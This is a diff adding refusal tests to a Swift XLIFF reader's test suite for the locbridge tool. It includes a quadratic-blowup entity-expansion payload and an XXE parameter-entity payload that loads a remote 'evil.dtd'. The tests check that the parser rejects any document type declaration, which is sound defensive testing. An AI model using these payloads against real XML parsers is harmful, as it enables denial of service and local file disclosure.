@@ -166,6 +166,17 @@ struct XLIFFReaderTests {
             <xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"><file original="a" target-language="de"><body>
             <trans-unit id="k"><source>&lol3;</source></trans-unit></body></file></xliff>
             """, expected: "In.xliff:2:1: error: the file has a document type declaration (<!DOCTYPE lolz>); XLIFF needs none, and locbridge refuses them because they can define entities that read local files or expand without limit"),
+        Refusal(name: "quadratic blowup", text: """
+            <?xml version="1.0"?>
+            <!DOCTYPE xliff [<!ENTITY a "\(String(repeating: "x", count: 50_000))">]>
+            <xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"><file original="a" target-language="de"><body>
+            <trans-unit id="k"><source>\(String(repeating: "&a;", count: 10_000))</source></trans-unit></body></file></xliff>
+            """, expected: "In.xliff:2:1: error: the file has a document type declaration (<!DOCTYPE xliff>); XLIFF needs none, and locbridge refuses them because they can define entities that read local files or expand without limit"),
+        Refusal(name: "XXE by parameter entity", text: """
+            <?xml version="1.0"?>
+            <!DOCTYPE xliff [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
+            <xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"/>
+            """, expected: "In.xliff:2:1: error: the file has a document type declaration (<!DOCTYPE xliff>); XLIFF needs none, and locbridge refuses them because they can define entities that read local files or expand without limit"),
         Refusal(name: "external DTD", text: """
             <?xml version="1.0"?>
             <!DOCTYPE xliff SYSTEM "http://example.com/xliff.dtd">
